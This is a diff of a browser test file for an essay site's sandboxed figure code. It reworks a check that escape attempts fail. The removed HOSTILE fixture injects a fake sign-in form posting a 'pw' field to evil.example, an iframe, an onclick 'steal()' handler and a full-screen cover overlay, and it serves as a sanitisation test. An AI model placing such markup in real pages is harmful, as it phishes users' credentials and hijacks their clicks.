@@ -28,7 +28,7 @@ from playwright.sync_api import Browser, Page, Playwright, expect
 from essay_site.dev.browser import CHROMIUM_ARGS, ENGINES, Engine, launch_chromium
 from essay_site.dev.site_server import SiteServer, serve
 from tests.conftest import FIGURES, module_version, packed, record_errors, shipped_source
-from tests.engines.attacks import ATTACKED, ATTACKS, ATTEMPTS, CONTAINED
+from tests.engines.attacks import ATTACKED, ATTACKS, ATTEMPTS, CONTAINED, HELD, HOSTILE
 from tests.engines.drivers import Driver, expression, start
 
 pytestmark = pytest.mark.browser
@@ -164,22 +164,6 @@ SHARED = "pixel_explosion"
 REFUSED = re.compile(r"Content.Security.Policy|Security Error: Content at moz-nullprincipal")
 EDIT = {"line": "BAR_BITS = 28", "from": "28", "to": "20"}
 FOLLOWED = "probability_budget"
-#: Appended to the shipped module: its frames also carry markup the figure API never makes.
-HOSTILE = f"""
-
-_plain = render
-
-
-def render(state):
-    frame = _plain(state)
-    extra = (
-        '<form action="https://evil.example/"><input name="pw"><button>Sign in</button></form>'
-        '<a href="https://evil.example/">away</a><iframe src="https://evil.example/"></iframe>'
-        '<span id="figure-{FOLLOWED}" onclick="steal()">clash</span>'
-        '<div data-hostile="cover" style="position: fixed; inset: 0">cover</div>'
-    )
-    return Frame(frame.html + extra, frame.alt, frame.layers)
-"""
 
 
 def follow(session: Session, code: str, widget: str = FOLLOWED) -> None:
@@ -241,15 +225,23 @@ def what_a_links_code_draws_is_sanitised(session: Session) -> None:
 
 
 def a_links_code_reaches_nothing_it_must_not(session: Session) -> None:
-    # The link the last scenario ran also tried, on import, each way out of its sandbox. Each
-    # attempt fails; the figure it attacked with messages under its name and the numpy it
+    # The link the last scenario ran also tried, once imported, each way out of its sandbox.
+    # Each attempt fails; the figure it attacked with messages under its name and the numpy it
     # patched compute as before.
     surface = session.driver.call("values", {"widget": "density_surface"})
-    tried = session.driver.call("attacked", {"widget": ATTACKED, "count": ATTEMPTS})
-    outcomes = dict(item.split(": ") for item in tried.split("; "))
-    assert len(outcomes) == ATTEMPTS, tried
+    attack = session.driver.call("attacked", {"widget": ATTACKED})
+    outcomes = attack["outcomes"]
     failed = {n: how for n, how in outcomes.items() if how not in ("refused", CONTAINED.get(n))}
-    assert failed == {}, tried
+    assert failed == {}, attack
+    if attack["stopped"] is None:
+        assert attack["done"] and len(outcomes) == ATTEMPTS, attack
+    else:
+        # An attempt the engine never returned from held the sandbox's worker (HELD): the
+        # figure's next request was never taken, so the sandbox was stopped, and the figure
+        # draws its own code and says why. Every other attempt ended, refused.
+        assert attack["held"] == HELD.get(session.engine), attack
+        assert "did not answer within 5 s and was stopped" in attack["stopped"], attack
+        assert attack["edited"] is None and len(outcomes) == ATTEMPTS - 1, attack
     other = session.driver.call("compute", {"widget": "density_surface"})
     assert other["state"] == "live" and "attacked" not in other["text"], other
     assert "attack" not in other["caches"], other  # the site's Cache Storage, as the page sees it
